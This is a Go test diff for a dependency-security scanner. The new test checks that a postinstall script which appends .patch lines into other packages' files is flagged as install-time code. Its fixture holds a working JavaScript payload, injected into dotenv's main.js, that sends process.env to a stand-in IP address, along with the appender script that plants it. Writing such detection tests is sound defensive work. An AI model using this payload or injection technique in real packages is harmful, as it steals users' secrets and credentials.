@@ -13,6 +13,7 @@ import (
 
 	"github.com/google/go-cmp/cmp"
 
+	"github.com/depfence/depfence/internal/archive"
 	"github.com/depfence/depfence/internal/finding"
 	"github.com/depfence/depfence/internal/jsast"
 )
@@ -397,6 +398,46 @@ func TestLoaderHookCode(t *testing.T) {
 		}
 		if found != hooks {
 			t.Errorf("loader hook %v: shim analysed as code = %v", hooks, found)
+		}
+	}
+}
+
+// TestPatchLinesPlanted covers install-time code appending the lines of a
+// .patch file to other packages' files: the lines that read as code are
+// analysed as code run at install. The same lines read by a library at
+// run time, or a patch of prose, are not.
+func TestPatchLinesPlanted(t *testing.T) {
+	patch := "--- a/node_modules/dotenv/lib/main.js\n+++ b/node_modules/dotenv/lib/main.js\n" +
+		"+;(function(){var h=require('https');h.request({host:'203.0.113.66',path:'/d',method:'POST'}).end(JSON.stringify(process.env))})();\n"
+	apply := `const fs = require("fs"), path = require("path"); let target = null;
+for (const line of fs.readFileSync(path.join(__dirname, "patches", "x.patch"), "utf8").split("\n")) {
+  if (line.startsWith("+++ b/")) target = line.slice(6); else if (line.startsWith("+") && target) fs.appendFileSync(target, line.slice(1)) }`
+	for name, c := range map[string]struct {
+		script, patch string
+		want          bool
+	}{
+		"at_install":  {`"scripts":{"postinstall":"node apply.js"}`, patch, true},
+		"at_run_time": {`"main":"apply.js"`, patch, false},
+		"prose_patch": {`"scripts":{"postinstall":"node apply.js"}`, "+++ b/README.md\n+Run the tool with --fix to apply the suggested changes to every file of the project.\n", false},
+	} {
+		// read as a scan reads it: the archive keeps only what analysis reads
+		afs, err := archive.FromDir(pkgFS(map[string]string{
+			"package.json":    `{"name":"a","version":"1.0.0",` + c.script + `}`,
+			"apply.js":        apply,
+			"patches/x.patch": c.patch,
+		}), ArchiveLimits())
+		if err != nil {
+			t.Fatal(err)
+		}
+		tg := NewTarget(afs, DefaultLimits())
+		got := false
+		for _, f := range tg.Code() {
+			if strings.HasPrefix(f.Name, "apply.js#text:") && f.Role == RoleInstall && slices.ContainsFunc(f.Facts.Calls, func(c jsast.Call) bool { return c.Callee == "https.request" }) {
+				got = true
+			}
+		}
+		if got != c.want {
+			t.Errorf("%s: patch line analysed as install-time code = %v, want %v", name, got, c.want)
 		}
 	}
 }
